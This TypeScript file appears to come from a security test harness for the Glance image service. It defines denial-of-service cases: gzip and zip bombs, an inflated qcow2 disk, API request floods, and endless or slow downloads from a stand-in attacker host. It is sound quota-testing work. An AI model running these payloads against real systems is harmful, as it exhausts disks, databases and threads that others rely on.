// Attacks by amounts: rows without end, disks that fill up, threads that wait.
import { gzipSync } from 'node:zlib';
import { composeQcow2, composeZip } from './attack-files';
import type { AttackGround, CallAttack, LiveAttack, StepOutcome, UrlAttack } from './attack-step';
import { createImage, ends } from './sharing-attacks';

const MIB = 1024 * 1024;
/** What crafted archives and disks become. */
const BOMB_BYTES = 64 * MIB;
/** More than the quotas that Glance comes with. */
const CHILDREN = 140;
/** Of the configuration `small-cap`. */
const CAP_BYTES = 2 * MIB;

/** What fills the disk is what lies in staging, whether the import then ends well or not. */
function isBomb({ staged }: StepOutcome): boolean {
  return (staged ?? 0) >= BOMB_BYTES;
}

function hasSmallCap({ files }: AttackGround): boolean {
  return [...files.values()].some((text) => text.includes(`image_size_cap = ${CAP_BYTES}\n`));
}

/** Stages a crafted file and imports it, as a member does. */
function importFile(id: string, disk: string, bytes: () => Buffer): UrlAttack {
  let base64: string | undefined;
  return {
    id,
    kind: 'glance-direct',
    urls: () => [''],
    get step() {
      base64 ??= bytes().toString('base64');
      return { disk, stage: base64 };
    },
    hasWorked: isBomb,
  };
}

function fillImage(id: string, table: string, calls: CallAttack['plan']): CallAttack {
  return {
    id,
    kind: 'calls',
    plan: (ground, mark) => ({
      ...calls(ground, mark),
      rows: `select count(*) from ${table} where image_id = '{image}' and deleted = 0`,
    }),
    hasWorked: ({ rows = 0 }) => rows >= CHILDREN,
  };
}

function addAll(entries: (number: number) => object): CallAttack['plan'] {
  const body = Array.from({ length: CHILDREN }, (_, number) => entries(number));
  return () => ({ rounds: [{ calls: [createImage(), { method: 'PATCH', path: '/v2/images/{image}', body }] }] });
}

/** What a flood repeats; each answer counts. */
const ROUNDS = 12;

/** Sorted as the catalogue is. */
export const quotaAttacks: readonly LiveAttack[] = [
  {
    id: 'dos-create-delete-loop',
    kind: 'calls',
    plan: ({ entryPort: port }) => ({
      rounds: [
        {
          times: ROUNDS,
          calls: [
            { ...createImage({ name: 'loop' }), port },
            { method: 'DELETE', path: '/v2/images/{image}', port },
          ],
        },
      ],
      rows: "select count(*) from images where name = 'loop' and deleted = 1",
    }),
    hasWorked: ({ rows }) => rows === ROUNDS,
  },
  {
    id: 'dos-endless-download',
    kind: 'web-download',
    urls: (_, mark) => [`http://downloads.attacker.example/endless/${8 * MIB}?${mark}`],
    isTold: hasSmallCap,
    // Sockets hold some of it; four times the cap is more than that.
    hasWorked: (_, seen) => seen.some(({ taken = 0 }) => taken >= 8 * MIB),
  },
  importFile('dos-gzip-bomb', 'raw', () => gzipSync(Buffer.alloc(BOMB_BYTES))),
  importFile('dos-huge-virtual-size', 'qcow2', () => composeQcow2({ sizeBytes: MIB / 4, virtualBytes: BOMB_BYTES })),
  {
    id: 'dos-image-create-flood',
    kind: 'calls',
    plan: ({ entryPort: port }) => ({
      rounds: [{ times: ROUNDS, calls: [{ ...createImage({ name: 'flood' }), port }] }],
    }),
    hasWorked: ({ answers = [] }) => answers.every(({ status }) => status === 201),
  },
  fillImage('dos-member-flood', 'image_members', () => ({
    rounds: [
      { calls: [createImage({ visibility: 'shared' })] },
      {
        times: CHILDREN,
        calls: [{ method: 'POST', path: '/v2/images/{image}/members', body: { member: 'project-{n}' } }],
      },
    ],
  })),
  {
    id: 'dos-multiplicative-fill',
    kind: 'calls',
    plan: ({ entryPort: port }) => ({
      rounds: [
        {
          times: ROUNDS,
          calls: [
            { ...createImage({ name: 'filled' }), port },
            {
              method: 'PATCH',
              path: '/v2/images/{image}',
              body: Array.from({ length: 10 }, (_, number) => ({ op: 'add', path: `/p${number}`, value: 'x' })),
            },
          ],
        },
      ],
      rows: "select count(*) from image_properties p join images i on i.id = p.image_id where i.name = 'filled' and p.name like 'p%'",
    }),
    hasWorked: ({ rows }) => rows === ROUNDS * 10,
  },
  {
    id: 'dos-oversize-upload',
    kind: 'calls',
    isTold: hasSmallCap,
    plan: () => ({
      rounds: [
        {
          calls: [
            createImage(),
            { method: 'PUT', path: '/v2/images/{image}/file', base64: Buffer.alloc(2 * CAP_BYTES).toString('base64') },
          ],
        },
      ],
    }),
    hasWorked: ends(204),
  },
  fillImage(
    'dos-property-flood',
    'image_properties',
    addAll((number) => ({ op: 'add', path: `/flood${number}`, value: 'x' })),
  ),
  {
    id: 'dos-slow-download',
    kind: 'web-download',
    urls: (_, mark) => [`http://downloads.attacker.example/slow/?${mark}`],
    step: { holdSeconds: 6 },
    hasWorked: ({ task }, seen) => task === 'processing' && seen.length > 0,
  },
  {
    id: 'dos-staging-fill',
    kind: 'calls',
    plan: () => ({
      rounds: [
        {
          times: 3,
          calls: [createImage(), { method: 'PUT', path: '/v2/images/{image}/stage', base64: 'AAAA' }],
        },
      ],
    }),
    hasWorked: ({ answers = [] }) => answers.filter(({ status }) => status === 204).length === 3,
  },
  {
    id: 'dos-tag-churn',
    kind: 'calls',
    plan: ({ entryPort: port }) => ({
      rounds: [
        { calls: [createImage()] },
        {
          times: ROUNDS,
          calls: [
            { method: 'PUT', path: '/v2/images/{image}/tags/churn', port },
            { method: 'DELETE', path: '/v2/images/{image}/tags/churn', port },
          ],
        },
      ],
      rows: "select count(*) from image_tags where image_id = '{image}' and deleted = 1",
    }),
    hasWorked: ({ rows }) => rows === ROUNDS,
  },
  fillImage('dos-tag-flood', 'image_tags', () => ({
    rounds: [
      {
        calls: [
          createImage(),
          {
            method: 'PATCH',
            path: '/v2/images/{image}',
            body: [
              { op: 'replace', path: '/tags', value: Array.from({ length: CHILDREN }, (_, number) => `t${number}`) },
            ],
          },
        ],
      },
    ],
  })),
  {
    id: 'dos-v1-create-flood',
    kind: 'calls',
    plan: () => ({
      rounds: [{ calls: [{ method: 'POST', path: '/v1/images', headers: { 'x-image-meta-name': 'p' } }] }],
    }),
    hasWorked: ends(200, 201),
  },
  importFile('dos-zip-bomb', 'raw', () => composeZip('disk.raw', Buffer.alloc(BOMB_BYTES))),
];
